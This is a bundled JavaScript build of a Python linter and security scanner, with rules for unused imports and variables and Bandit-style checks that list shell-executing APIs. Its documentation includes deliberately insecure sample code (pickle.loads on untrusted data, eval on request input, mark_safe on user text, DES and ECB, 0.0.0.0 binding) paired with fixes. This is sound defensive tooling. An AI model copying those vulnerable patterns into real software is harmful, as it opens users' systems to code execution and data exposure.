 *   imports declared `global`/`nonlocal` (they set a name for another scope), and imports in a
 *   class body (they become class attributes, read as `self.name`; Ruff does not report them
 *   either).
 * - Still reported, like pyflakes: imports in `__init__.py`, imports under `if TYPE_CHECKING:`
 *   that nothing reads, imports guarded by `try/except ImportError`, imports inside functions.
 */
const scopes_1 = __nccwpck_require__(7985);
const binding_rule_1 = __nccwpck_require__(7663);
/** Import bindings this rule judges (see the file comment for the exceptions). */
function isCandidate(binding) {
    if (binding.kind !== 'import' && binding.kind !== 'from-import')
        return false;
    const info = binding.import;
    if (!info || info.explicitReExport)
        return false;
    if (binding.declared)
        return false;
    return binding.scope.kind !== 'class';
}
/**
 * Only the last binding of an unused group is judged, as pyflakes and Ruff do: an earlier import
 * that a later binding replaces before any read (`import os` then `os = ...`, or the `try` half of
 * `try: import x / except ImportError: x = None`) is a redefinition, a different check (F811).
 * This also keeps an existing `# noqa: F401` on the last import meaningful.
 */
function isLastOfGroup(binding) {
    const group = (0, scopes_1.rebindingGroup)(binding);
    return group[group.length - 1] === binding;
}
/**
 * `import a.b.c` next to a used alias of an enclosing package in the same scope (`import a as x`,
 * `import a.b as y`): the plain import is there to load the submodule that the alias reaches as
 * `x.b.c` or `y.c`, so it counts as used. (An alias of a sibling, `import a.d as z`, does not reach
 * it.)
 */
function loadsSubmoduleForAlias(binding) {
    const info = binding.import;
    if (!info.submodule)
        return false;
    return binding.scope.bindings.some((other) => other.kind === 'import' && other.import?.alias !== undefined && info.module.startsWith(other.import.module + '.') && (0, scopes_1.isGroupUsed)(other));
}
/** "`os.path` is imported but never used", "`numpy` (as `np`) is imported but never used". */
function unusedImportMessage(binding) {
    const info = binding.import;
    const alias = info.alias !== undefined ? ` (as \`${info.alias}\`)` : '';
    return `\`${info.qualifiedName}\`${alias} is imported but never used`;
}
exports.unusedImport = (0, binding_rule_1.bindingRule)({
    meta: {
        id: 'unused-import',
        name: 'UnusedImport',
        kind: 'maintainability',
        shortDescription: 'An imported name is never used',
        fullDescription: 'An import binds a name that nothing in the module reads: not later code, not a function or ' +
            'class body, decorator, default value, annotation (string annotations included) or f-string, ' +
            'and not __all__. The module is still loaded for nothing, and readers are misled about what ' +
            'the code depends on.',
        category: 'useless-code',
        aliases: ['F401', 'W0611'],
        precision: 'very-high',
        problemSeverity: 'recommendation',
        needsCleanParse: true,
    },
    docs: {
        title: 'An imported name is never used',
        why: `An \`import\` whose name nothing in the module reads does no useful work, yet it still runs: the
module is loaded (which can be slow, have side effects, or fail when an optional dependency is
missing), and the name suggests to the reader a dependency that does not exist. Unused imports
usually remain after a refactoring, and they hide the imports that matter, lengthen dependency
lists and can create import cycles.`,
        example: `import os
import sys
import numpy as np
from typing import List, Optional


def greet(name: Optional[str]) -> None:
    sys.stdout.write(f"hello {name or 'world'}\\n")`,
        exampleNote: '`os`, `numpy` (as `np`) and `typing.List` are reported: nothing reads `os`, `np` or `List`.',
        fix: 'Delete the import, or only the unused names of a `from ... import` list:',
        fixed: `import sys
from typing import Optional


def greet(name: Optional[str]) -> None:
    sys.stdout.write(f"hello {name or 'world'}\\n")`,
        notReported: [
            '`from __future__ import ...`: compiler directives, not names.',
            '`import name as name` and `from module import name as name`: the explicit re-export idiom.',
            '`from module import *`: which names it provides is not known.',
            `Imports in a function or module that calls \`locals()\` (or \`vars()\` with no argument) in
  that same scope: the names may be read through the returned dictionary.`,
            'Imports declared `global` or `nonlocal` first: they set a name for another scope.',
            'Imports in a class body: they become class attributes, typically read as `self.name`.',
            `An import that a later binding replaces before anything reads the name (\`import os\` then
  \`os = ...\`, or \`try: import ssl\` / \`except ImportError: ssl = None\` with \`ssl\` never
  read): that is a redefinition, a different check (pyflakes F811). Likewise, when one name is
  imported several times and never read, only the last import is reported, as pyflakes and Ruff
  do.`,
            'Files with syntax errors: without the whole file, a use could be missed.',
        ],
        more: `Reads the analysis cannot see do not count: names used only in \`eval\`/\`exec\` strings, doctests,
\`# type:\` comments, through \`globals()\`, or by other modules importing the name from this one.
Imports in \`__init__.py\` files are reported like any other: list re-exported names in \`__all__\`
or use the \`as\` form below.

## When the import is there on purpose

If the import is there on purpose, make the intent visible:

- A re-export from a package's \`__init__.py\` or an API module: list the name in \`__all__\`, or
  write it as \`from .module import name as name\` (or \`import name as name\`), the explicit
  re-export form that type checkers also understand.
- An import kept for its side effects (registering plugins, patching): keep it and suppress the
  finding on that line, with a comment saying why.
- An availability check (\`try: import lxml\` ... \`except ImportError:\`): use
  \`importlib.util.find_spec("lxml") is not None\`, which does not import the module.

## What counts as a use

Any read of the name in the module: statements after the import, function bodies wherever they
are defined (they run when called, after the module has loaded), class bodies, decorators, default
values, annotations, names inside string annotations such as \`"Optional[Node]"\` or
\`cast("Node", value)\`, f-strings, class bases and keywords, \`del name\`, and the strings listed in
\`__all__\` (\`__all__ = [...]\`, \`__all__ += [...]\`, \`__all__.extend([...])\`,
\`__all__.append(...)\`). \`import a.b\` binds \`a\`, so any use of \`a\` uses it. When a name is
bound several times in one scope (an import in \`try\` and a fallback in \`except ImportError\`,
imports in both branches of an \`if\`), a read of the name uses all of them.`,
    },
    judge: () => (binding) => {
        if (!isCandidate(binding) || !isLastOfGroup(binding))
            return undefined;
        if ((0, scopes_1.isGroupUsed)(binding) || loadsSubmoduleForAlias(binding))
            return undefined;
        const info = binding.import;
        return { node: info.aliasNode ?? info.nameNode, message: unusedImportMessage(binding) };
    },
});


/***/ }),

/***/ 2477:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.unusedSuppression = void 0;
/**
 * Ruff RUF100: a suppression comment naming a Tendril rule that reported nothing where the comment
 * applies. The engine reports this rule (src/engine/analyze.ts) once every other rule has run on
 * the file: it needs all findings and the suppression comments collected in the walk, so the
 * rule's own visitor is empty.
 */
const define_1 = __nccwpck_require__(5544);
exports.unusedSuppression = (0, define_1.defineRule)({
    meta: {
        id: 'unused-suppression',
        name: 'UnusedSuppression',
        kind: 'maintainability',
        shortDescription: 'A suppression comment suppresses nothing',
        fullDescription: 'A # noqa, # nosec, # pylint: disable or # tendril: ignore comment names a Tendril rule that ' +
            'reports nothing where the comment applies. The comment is stale and would hide a later finding.',
        category: 'useless-code',
        aliases: ['RUF100'],
        precision: 'high',
        problemSeverity: 'recommendation',
    },
    docs: {
        title: 'A suppression comment suppresses nothing',
        why: `A suppression comment that suppresses nothing is noise: the problem it silenced was fixed (or
never there), and the comment now hides the next real finding on that line.

## What is reported

A code in \`# noqa: ...\`, \`# nosec ...\`, \`# pylint: disable=...\`, \`# ruff: noqa: ...\` or
\`# tendril: ignore[...]\` that names a Tendril rule enabled in the run (by id or alias) and
suppressed no finding of it.`,
        example: `import os  # noqa: F401
print(os.sep)`,
        exampleNote: '`os` is used, so `# noqa: F401` suppresses nothing: remove it.',
        fix: 'Remove the codes that suppress nothing, and the comment when no code is left:',
        fixed: `import os
print(os.sep)`,
        notReported: [
            'Bare `# noqa`, `# nosec` and `# tendril: ignore`: they may be there for another tool.',
            'Codes Tendril does not implement (`# noqa: E501`): they belong to other linters.',
            'Codes of rules not enabled in the run (left out by `select`, `ignore` or `per-file-ignores`).',
        ],
        more: 'Suppress this note itself with `# noqa: RUF100` on the same line.',
    },
    create: () => ({}),
});


/***/ }),

/***/ 4800:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.unusedVariable = void 0;
/**
 * pyflakes F841 / Ruff F841 / Pylint W0612: a local variable that is assigned and never read.
 *
 * Built on the shared scope model (src/analysis/scopes.ts). Semantics, decided against pyflakes
 * and Ruff (checked with Ruff's WebAssembly build):
 *
 * - Judged: assignments (plain, chained, annotated with a value), `with ... as name`, walrus
 *   targets, in function and lambda scopes; and `except ... as name` in every scope (the name is
 *   deleted at the end of the handler, so a read elsewhere cannot use it).
 * - All bindings of a name in one scope form a group (split at `del`): a read of any member keeps
 *   the whole group, and an unused group is reported once, on its last binding, as pyflakes and
 *   Ruff do (`x = 1` then `x = 2` with no read: one finding, on `x = 2`). `x += 1` reads `x`.
 * - Not reported: `_` and `_`-prefixed names; names declared `global`/`nonlocal` in the function;
 *   names a nested function declares `nonlocal` (it writes the variable for a later read);
 *   tuple/list unpacking targets (`a, b = pair()`), except when the value is itself a tuple or
 *   list display (`a, b = 1, 2`), where unpacking is not needed; walrus targets inside
 *   comprehensions; anything in a scope that calls `locals()` (or bare `vars()`); `for` targets,
 *   parameters, imports (see unused-import), definitions.
 */
const scopes_1 = __nccwpck_require__(7985);
const binding_rule_1 = __nccwpck_require__(7663);
const JUDGED = new Set(['assignment', 'with', 'walrus', 'except']);
const UNPACKING = new Set(['pattern_list', 'tuple_pattern', 'list_pattern', 'tuple', 'list', 'list_splat_pattern', 'expression_list']);
const DISPLAYS = new Set(['tuple', 'list', 'expression_list']);
const COMPREHENSIONS = new Set(['list_comprehension', 'set_comprehension', 'dictionary_comprehension', 'generator_expression']);
/** The container of a target name, looking through parentheses. */
function container(node) {
    let up = node.parent;
    while (up?.type === 'parenthesized_expression')
        up = up.parent;
    return up;
}
/** `a, b = pair()` (not reported) versus `a, b = 1, 2` (reported: no unpacking needed). */
function isUnpacking(binding) {
    const up = container(binding.node);
    if (!up || !UNPACKING.has(up.type))
        return false;
    if (binding.kind !== 'assignment')
        return true;
    const owner = binding.owner;
    const right = owner.childForFieldName('right');
    const chained = right?.type === 'assignment' || owner.parent?.type === 'assignment';
    return chained || !right || !DISPLAYS.has(right.type);
}
function inComprehension(node, scopeNode) {
    for (let up = node.parent; up && up.id !== scopeNode.id; up = up.parent) {
        if (COMPREHENSIONS.has(up.type))
            return true;
    }
    return false;
}
/** Bindings some nested scope declares `nonlocal`: the nested function writes them. */
function nonlocalTargets(model) {
    const targets = new Set();
    for (const scope of model.scopes) {
        if (!scope.parent)
            continue;
        for (const name of scope.nonlocals) {
            const binding = (0, scopes_1.lookup)(scope.parent, name);
            if (binding)
                for (const member of (0, scopes_1.rebindingGroup)(binding))
                    targets.add(member);
        }
    }
    return targets;
}
function isCandidate(binding) {
    if (!JUDGED.has(binding.kind) || binding.declared)
        return false;
    if (binding.name.startsWith('_'))
        return false;
    const kind = binding.scope.kind;
    if (binding.kind === 'except')
        return true;
    if (kind !== 'function' && kind !== 'lambda')
        return false;
    if (binding.kind === 'walrus')
        return !inComprehension(binding.node, binding.scope.node);
    return !isUnpacking(binding);
}
/** The last binding of the group that gives the name a value (a `del` may close the group). */
function lastValueOfGroup(binding) {
    const group = (0, scopes_1.rebindingGroup)(binding);
    for (let i = group.length - 1; i >= 0; i--)
        if (group[i].kind !== 'del')
            return group[i];
    return undefined;
}
exports.unusedVariable = (0, binding_rule_1.bindingRule)({
    meta: {
        id: 'unused-variable',
        name: 'UnusedVariable',
        kind: 'maintainability',
        shortDescription: 'A local variable is assigned but never read',
        fullDescription: 'A function assigns a local variable (or binds an exception with `except ... as name`) and ' +
            'nothing reads it afterwards: not later code, not a nested function or comprehension. The ' +
            'work is wasted, and the missing read is often a bug.',
        category: 'useless-code',
        aliases: ['F841', 'W0612'],
        precision: 'very-high',
        problemSeverity: 'recommendation',
        needsCleanParse: true,
    },
    docs: {
        title: 'A local variable is assigned but never read',
        why: `A function that stores a value in a local variable and then never reads it either does
unnecessary work or, more often, has a bug: the value was meant to be returned, passed on or
checked, and a later edit lost the read (or a typo reads another name instead). Either way the
reader has to work out that the assignment is dead.`,
        example: `def save(record, path):
    data = serialize(record)
    try:
        with open(path, "w") as handle:
            status = handle.write(data)
    except OSError as error:
        log.warning("could not save %s", path)`,
        exampleNote: '`status` and `error` are reported: nothing reads them.',
        fix: `Drop the assignment (keep the call if it has effects: \`handle.write(data)\`), use the value, or,
when a name is required but the value is not wanted, name it \`_\` or give it a leading underscore
(\`_status\`). For \`except OSError as error:\` with \`error\` unused, write \`except OSError:\`.`,
        fixed: `def save(record, path):
    data = serialize(record)
    try:
        with open(path, "w") as handle:
            handle.write(data)
    except OSError:
        log.warning("could not save %s", path)`,
        notReported: [
            '`_` and names starting with `_`: the conventional "deliberately unused" names.',
            `Unpacking targets, \`first, rest = split(line)\`: naming every part is often clearer than
  indexing. (\`a, b = 1, 2\`, where the value is a tuple or list display, is reported: no
  unpacking is needed.)`,
            '`for` loop targets, parameters, imports (see `unused-import`), functions and classes.',
            `Names declared \`global\` or \`nonlocal\`, and variables a nested function declares \`nonlocal\`
  (the nested function writes them for someone to read).`,
            'Walrus targets inside comprehensions, `[y for x in data if (y := f(x))]`.',
            `Everything in a function that calls \`locals()\` (or \`vars()\` with no argument): the names may be
  read through the returned dictionary.`,
            'Files with syntax errors: without the whole file, a read could be missed.',
        ],
        more: `Reads the analysis cannot see do not count: names read only in \`eval\`/\`exec\` strings or through
frame inspection.

## How it decides

Only function (and lambda) locals are judged, plus the name of \`except ... as name\` in any scope
(Python deletes it at the end of the handler). Reads count anywhere they can see the variable:
later statements, nested functions, lambdas and comprehensions, \`del name\`, \`name += 1\`. When a
name is assigned several times and never read, one note is given, on the last assignment.`,
    },
    judge: (_context, model) => {
        let written;
        return (binding) => {
            if (!isCandidate(binding))
                return undefined;
            if (binding.kind === 'except') {
                if (binding.reads > 0 || binding.scope.usesLocals)
                    return undefined;
            }
            else {
                if (lastValueOfGroup(binding) !== binding || (0, scopes_1.isGroupUsed)(binding))
                    return undefined;
            }
            written ??= nonlocalTargets(model);
            if (written.has(binding))
                return undefined;
            return `Local variable \`${binding.name}\` is assigned but never read`;
        };
    },
});


/***/ }),

/***/ 1813:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.NO_SHELL_FUNCTIONS = exports.SHELL_FUNCTIONS = exports.SUBPROCESS_FUNCTIONS = exports.HTTPX_FUNCTIONS = exports.REQUESTS_FUNCTIONS = exports.HTTP_METHODS = void 0;
/**
 * Lists of APIs that several security rules share, by qualified name as the call model resolves
 * them (src/analysis/calls.ts). A list used by one rule stays in that rule's file.
 */
const common_1 = __nccwpck_require__(8925);
/** The HTTP verbs of requests' and httpx's module-level functions. */
exports.HTTP_METHODS = 'get options head post put patch delete request';
/** `requests.get`, `requests.post`, ...: the module-level functions that send a request. */
exports.REQUESTS_FUNCTIONS = (0, common_1.qualify)('requests', exports.HTTP_METHODS);
/** httpx's module-level request functions, its streaming call and its client classes. */
exports.HTTPX_FUNCTIONS = [...(0, common_1.qualify)('httpx', `${exports.HTTP_METHODS} stream Client AsyncClient`)];
/** The `subprocess` functions that take `shell=` (Bandit's `shell_injection.subprocess` list). */
exports.SUBPROCESS_FUNCTIONS = [
    'subprocess.Popen',
    'subprocess.call',
    'subprocess.check_call',
    'subprocess.check_output',
    'subprocess.run',
];
/** Functions that always run their command through a shell (Bandit's `shell_injection.shell` list). */
exports.SHELL_FUNCTIONS = [
    'os.system',
    ...(0, common_1.qualify)('os', 'popen popen2 popen3 popen4'),
    ...(0, common_1.qualify)('popen2', 'popen2 popen3 popen4 Popen3 Popen4'),
    ...(0, common_1.qualify)('commands', 'getoutput getstatusoutput'),
    ...(0, common_1.qualify)('subprocess', 'getoutput getstatusoutput'),
];
/** Functions that start a program without a shell (Bandit's `shell_injection.no_shell` list). */
exports.NO_SHELL_FUNCTIONS = [
    ...(0, common_1.qualify)('os', 'execl execle execlp execlpe execv execve execvp execvpe spawnl spawnle spawnlp spawnlpe spawnv spawnve spawnvp spawnvpe startfile'),
];


/***/ }),

/***/ 5362:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.assertUsed = void 0;
const common_1 = __nccwpck_require__(8925);
exports.assertUsed = (0, common_1.securityRule)({
    id: 'assert-used',
    name: 'AssertUsed',
    bandit: 'B101',
    ruff: 'S101',
    severity: 'LOW',
    confidence: 'HIGH',
    category: 'reliability',
    cwe: [703],
    short: 'assert statement used (removed when Python runs with -O)',
    full: 'An assert statement is compiled away when Python runs with -O or PYTHONOPTIMIZE, so a check written with assert (an access check, input validation) silently disappears in optimized runs.',
    title: 'An `assert` statement',
    why: 'Python removes every `assert` when it runs with `-O` (or `PYTHONOPTIMIZE` is set). An `assert` that enforces something the program relies on (a permission, a valid input, an invariant protecting data) then no longer runs, and the code continues as if the check had passed.',
    example: 'def delete(user, item):\n    assert user.is_admin\n    item.delete()',
    fix: 'Raise an exception explicitly: `if not user.is_admin: raise PermissionError(...)`. In tests, `assert` is the norm; exclude test files from the security analysis or dismiss the alerts there.',
    fixed: 'def delete(user, item):\n    if not user.is_admin:\n        raise PermissionError("only an administrator may delete items")\n    item.delete()',
    notReported: ['Nothing is exempted: every `assert` statement is reported, including in tests (as Bandit and Ruff do).'],
    create(context) {
        return {
            assert_statement(node) {
                context.report(node.child(0) ?? node, '`assert` is removed when Python runs with -O; raise an exception for checks the program relies on');
            },
        };
    },
});


/***/ }),

/***/ 9838:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.bindAllInterfaces = void 0;
/** Bandit B104 / Ruff S104: the string literal "0.0.0.0", the address of every network interface. */
const common_1 = __nccwpck_require__(8925);
const string_literals_1 = __nccwpck_require__(3694);
exports.bindAllInterfaces = (0, common_1.securityRule)({
    id: 'bind-all-interfaces',
    name: 'BindAllInterfaces',
    bandit: 'B104',
    ruff: 'S104',
    severity: 'MEDIUM',
    confidence: 'MEDIUM',
    category: 'network',
    cwe: [605],
    short: 'the address "0.0.0.0": binding to every network interface',
    full: 'A string literal "0.0.0.0", the address that makes a server listen on every interface of the machine, including public ones.',
    title: 'Binding to all network interfaces',
    why: 'A service bound to `0.0.0.0` accepts connections on every interface of the host, public ones included. A development server or an admin endpoint meant for local use becomes reachable from the network.',
    example: 'app.run(host="0.0.0.0", port=8080)',
    fix: 'Bind to `127.0.0.1` (or a specific interface) by default and make a wider address an explicit deployment setting.',
    fixed: 'app.run(host="127.0.0.1", port=8080)',
    notReported: ['Strings built at run time; only a literal exactly equal to `0.0.0.0` is reported, wherever it appears.'],
    create(context) {
        return (0, string_literals_1.literalStrings)(context, ['0.0.0.0'], (node, value) => {
            if (value === '0.0.0.0')
                context.report(node, '"0.0.0.0" binds to every network interface; bind to a specific address');
        });
    },
});


/***/ }),

/***/ 5113:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.BLACKLIST_CALL_RULES = void 0;
const calls_1 = __nccwpck_require__(4463);
const arguments_1 = __nccwpck_require__(9950);
const literals_1 = __nccwpck_require__(8436);
const common_1 = __nccwpck_require__(8925);
const CRYPTO_HASH = ['MD2', 'MD4', 'MD5', 'SHA'].flatMap((h) => [`Crypto.Hash.${h}.new`, `Cryptodome.Hash.${h}.new`]);
const CRYPTO_CIPHER = ['ARC2', 'ARC4', 'Blowfish', 'DES', 'XOR'].flatMap((c) => [`Crypto.Cipher.${c}.new`, `Cryptodome.Cipher.${c}.new`]);
const XML_PARSE = 'parse iterparse fromstring XMLParser';
const HTTP = /^https?:\/\//i;
/**
 * The values assigned to the variable `name` in the function (or module) around `at`, when every
 * assignment to it there is a plain `name = <expression>`; undefined when it is bound otherwise.
 */
function assignedValues(at, name) {
    let scope = at.parent;
    while (scope && scope.type !== 'function_definition' && scope.type !== 'module')
        scope = scope.parent;
    if (!scope)
        return undefined;
    const values = [];
    let other = false;
    const visit = (node) => {
        for (const child of node.namedChildren) {
            if (!child)
                continue;
            if (child.type === 'function_definition' || child.type === 'class_definition' || child.type === 'lambda')
                continue;
            if (child.type === 'assignment' || child.type === 'augmented_assignment') {
                const left = child.childForFieldName('left');
                const right = child.childForFieldName('right');
                if (left?.type === 'identifier' && left.text === name) {
                    if (child.type === 'assignment' && right)
                        values.push(right);
                    else
                        other = true;
                }
                else if (left && left.type !== 'identifier' && new RegExp(`\\b${name}\\b`).test(left.text))
                    other = true;
            }
            else if ((child.type === 'for_statement' || child.type === 'with_item' || child.type === 'as_pattern') &&
                new RegExp(`\\b${name}\\b`).test((child.childForFieldName('left') ?? child.childForFieldName('alias'))?.text ?? '')) {
                other = true;
            }
            visit(child);
        }
    };
    const body = scope.type === 'function_definition' ? scope.childForFieldName('body') : scope;
    if (body)
        visit(body);
    if (scope.type === 'function_definition') {
        const params = scope.childForFieldName('parameters');
        if (params && new RegExp(`\\b${name}\\b`).test(params.text))
            other = true;
    }
    return other ? undefined : values;
}
/**
 * `urlopen("https://...")`: a fixed http(s) URL cannot be turned into `file://`. A variable counts
 * when every assignment to it in the same function is such a literal (Ruff reads it the same way).
 */
function fixedHttpUrl(call) {
    const url = (0, arguments_1.argumentAt)(call.node, 0, 'url');
    if (!url)
        return false;
    const expr = (0, literals_1.unparenthesize)(url);
    const values = expr.type === 'identifier' ? assignedValues(expr, expr.text) : [expr];
    if (!values || values.length === 0)
        return false;
    return values.every((v) => {
        const value = (0, literals_1.stringLiteralValue)(v) ?? fStringPrefix(v);
        return value !== undefined && HTTP.test(value.trim());
    });
}
/** The literal text of an f-string before its first field (`f"https://{host}/"` -> `https://`). */
function fStringPrefix(node) {
    const expr = (0, literals_1.unparenthesize)(node);
    const first = expr.type === 'concatenated_string' ? expr.namedChildren.find((c) => c?.type === 'string') : expr;
    if (!first || first.type !== 'string')
        return undefined;
    let text = '';
    for (const child of first.namedChildren) {
        if (!child || child.type === 'string_start')
            continue;
        if (child.type !== 'string_content')
            break;
        text += child.text;
    }
    return text;
}
const ENTRIES = [
    {
        id: 'pickle-deserialization',
        name: 'PickleDeserialization',
        bandit: 'B301',
        ruff: 'S301',
        severity: 'MEDIUM',
        cwe: [502],
        category: 'deserialization',
        functions: [
            ...(0, common_1.qualify)('pickle', 'loads load Unpickler'),
            ...(0, common_1.qualify)('_pickle', 'loads load Unpickler'),
            ...(0, common_1.qualify)('cPickle', 'loads load Unpickler'),
            ...(0, common_1.qualify)('dill', 'loads load Unpickler'),
            ...(0, common_1.qualify)('shelve', 'open DbfilenameShelf'),
            'jsonpickle.decode',
            'jsonpickle.unpickler.decode',
            'pandas.read_pickle',
        ],
        short: 'pickle (or a module built on it) deserializes data',
        why: 'Unpickling runs whatever the byte stream asks for: a pickle can name any importable callable and its arguments, so loading one from an untrusted source (a request, a cache, a file a user can write) lets its author run code in the process.',
        example: 'import pickle\n\ndef restore(blob):\n    return pickle.loads(blob)',
        fix: 'Exchange data in a format that carries only data (`json`, or a schema-checked format). If pickles must cross a trust boundary, sign them (`hmac`) and verify the signature before loading.',
        fixed: 'import json\n\ndef restore(blob):\n    return json.loads(blob)',
        says: 'deserializes with pickle, which can run arbitrary code when the data is untrusted',
    },
    {
        id: 'marshal-deserialization',
        name: 'MarshalDeserialization',
        bandit: 'B302',
        ruff: 'S302',
        severity: 'MEDIUM',
        cwe: [502],
        category: 'deserialization',
        functions: (0, common_1.qualify)('marshal', 'load loads'),
        short: 'marshal deserializes data',
        why: '`marshal` is an internal format for code objects; it is not hardened against malformed or malicious input and can produce code objects that run when called.',
        example: 'import marshal\n\nobj = marshal.loads(received)',
        fix: 'Use `json` or another data-only format for anything that comes from outside the program.',
        fixed: 'import json\n\nobj = json.loads(received)',
        says: 'deserializes with marshal, which is not safe for untrusted data',
    },
    {
        id: 'insecure-hash-function',
        name: 'InsecureHashFunction',
        bandit: 'B303',
        ruff: 'S303',
        severity: 'MEDIUM',
        cwe: [327],
        category: 'cryptography',
        functions: [...CRYPTO_HASH, 'cryptography.hazmat.primitives.hashes.MD5', 'cryptography.hazmat.primitives.hashes.SHA1'],
        short: 'broken hash algorithm (MD2, MD4, MD5, SHA-1) from a crypto library',
        why: 'MD2, MD4, MD5 and SHA-1 have practical collision attacks. Signatures, integrity checks and fingerprints built on them can be forged.',
        example: 'from Crypto.Hash import MD5\n\ndigest = MD5.new(data).hexdigest()',
        fix: 'Use SHA-256 or stronger (`SHA256.new`, `hashes.SHA256()`); for passwords use a password hash (scrypt, argon2, PBKDF2).',
        fixed: 'from Crypto.Hash import SHA256\n\ndigest = SHA256.new(data).hexdigest()',
        notReported: ['`hashlib` calls: those are `insecure-hashlib-function` (B324).'],
        says: 'uses a broken hash algorithm',
    },
    {
        id: 'insecure-cipher',
        name: 'InsecureCipher',
        bandit: 'B304',
        ruff: 'S304',
        severity: 'HIGH',
        cwe: [327],
        category: 'cryptography',
        functions: [...CRYPTO_CIPHER, ...(0, common_1.qualify)('cryptography.hazmat.primitives.ciphers.algorithms', 'ARC4 Blowfish IDEA CAST5 SEED TripleDES')],
        short: 'broken or weak cipher (DES, RC2, RC4, Blowfish, IDEA, XOR, ...)',
        why: 'These ciphers have small keys, small blocks or known breaks; data encrypted with them should be considered readable by a determined attacker.',
        example: 'from Crypto.Cipher import DES\n\ncipher = DES.new(key, DES.MODE_CBC, iv)',
        fix: "Use AES (for example AES-GCM via `cryptography`'s `AESGCM`) or ChaCha20-Poly1305.",
        fixed: 'from cryptography.hazmat.primitives.ciphers.aead import AESGCM\n\ncipher = AESGCM(key)',
        says: 'uses a broken or weak cipher',
    },
    {
        id: 'insecure-cipher-mode',
        name: 'InsecureCipherMode',
        bandit: 'B305',
        ruff: 'S305',
        severity: 'MEDIUM',
        cwe: [327],
        category: 'cryptography',
        functions: ['cryptography.hazmat.primitives.ciphers.modes.ECB'],
        short: 'ECB cipher mode',
        why: 'ECB encrypts equal plaintext blocks to equal ciphertext blocks, so patterns of the data show through the encryption.',
        example: 'from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes\n\nc = Cipher(algorithms.AES(key), modes.ECB())',
        fix: 'Use an authenticated mode such as GCM (or CBC/CTR with a MAC).',
        fixed: 'from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes\n\nc = Cipher(algorithms.AES(key), modes.GCM(iv))',
        says: 'uses ECB mode, which leaks patterns of the plaintext',
    },
    {
        id: 'insecure-mktemp',
        name: 'InsecureMktemp',
        bandit: 'B306',
        ruff: 'S306',
        severity: 'MEDIUM',
        cwe: [377],
        category: 'files',
        functions: ['tempfile.mktemp'],
        short: 'tempfile.mktemp returns a name that another process can take first',
        why: '`mktemp` only returns a name. Between choosing it and opening it another process can create that file or a symlink there (a race), and the program then writes where the attacker wants.',
        example: 'import tempfile\n\npath = tempfile.mktemp()\nwith open(path, "w") as f:\n    f.write(data)',
        fix: 'Use `tempfile.mkstemp()`, `NamedTemporaryFile()` or `TemporaryDirectory()`, which create the file atomically.',
        fixed: 'import tempfile\n\nwith tempfile.NamedTemporaryFile("w", delete=False) as f:\n    f.write(data)',
        says: 'returns a temporary file name without creating the file (race condition)',
    },
    {
        id: 'eval-used',
        name: 'EvalUsed',
        bandit: 'B307',
        ruff: 'S307',
        severity: 'MEDIUM',
        cwe: [78],
        category: 'injection',
        functions: ['builtins.eval'],
        short: 'eval() runs a string as Python code',
        why: '`eval` runs any Python expression, including calls such as `__import__("os").system(...)`. If any part of the string comes from outside the program, so does the code that runs.',
        example: 'value = eval(request.args["n"])',
        fix: 'Parse literals with `ast.literal_eval`, numbers with `int`/`float`, structures with `json.loads`; dispatch on names with a dictionary.',
        fixed: 'value = int(request.args["n"])',
        notReported: ['A method or function named `eval` that is not the builtin (`model.eval()`, a local `def eval`).'],
        says: 'evaluates a string as Python code; use ast.literal_eval for literals',
    },
    {
        id: 'django-mark-safe-call',
        name: 'DjangoMarkSafeCall',
        bandit: 'B308',
        ruff: 'S308',
        severity: 'MEDIUM',
        cwe: [79],
        category: 'xss',
        functions: ['django.utils.safestring.mark_safe', 'django.utils.html.mark_safe'],
        short: "mark_safe disables Django's escaping for a string",
        why: '`mark_safe` tells templates not to escape a value. If that value contains anything a user controls, it reaches the page as HTML and script (cross-site scripting).',
        example: 'from django.utils.safestring import mark_safe\n\nhtml = mark_safe(f"<b>{user.name}</b>")',
        fix: 'Build HTML with `django.utils.html.format_html`, which escapes its arguments, or let the template escape.',
        fixed: 'from django.utils.html import format_html\n\nhtml = format_html("<b>{}</b>", user.name)',
        says: 'marks a string safe, disabling HTML escaping',
    },
    {
        id: 'url-open-any-scheme',
        name: 'UrlOpenAnyScheme',
        bandit: 'B310',
        ruff: 'S310',
        severity: 'MEDIUM',
        cwe: [22],
        category: 'network',
        functions: [
            ...(0, common_1.qualify)('urllib', 'urlopen urlretrieve URLopener FancyURLopener'),
            ...(0, common_1.qualify)('urllib.request', 'urlopen urlretrieve URLopener FancyURLopener Request'),
            ...(0, common_1.qualify)('urllib2', 'urlopen Request'),
            ...(0, common_1.qualify)('six.moves.urllib.request', 'urlopen urlretrieve URLopener FancyURLopener Request'),
        ],
        check: (call) => !fixedHttpUrl(call),
        short: 'urllib opens a URL whose scheme is not checked (file:// and custom schemes allowed)',
        why: 'urllib follows `file://` and other schemes as readily as `http(s)://`. A URL from outside the program can therefore read local files or reach unexpected handlers.',
        example: 'import urllib.request\n\ndef fetch(url):\n    return urllib.request.urlopen(url).read()',
        fix: 'Check the scheme first (`urllib.parse.urlsplit(url).scheme in {"http", "https"}`), or use an HTTP-only client.',
        fixed: 'import requests\n\ndef fetch(url):\n    return requests.get(url, timeout=10).content',
        notReported: [
            'A URL written as a literal string (or an f-string whose fixed start) beginning with `http://` or `https://`, or a variable every assignment of which in the same function is such a literal.',
        ],
        says: 'opens a URL without restricting its scheme (file:// and custom schemes are allowed)',
    },
    {
        id: 'non-cryptographic-random',
        name: 'NonCryptographicRandom',
        bandit: 'B311',
        ruff: 'S311',
        severity: 'LOW',
        cwe: [330],
        category: 'cryptography',
        functions: (0, common_1.qualify)('random', 'Random random randrange randint choice choices uniform triangular randbytes'),
        short: 'the random module is not suitable for security purposes',
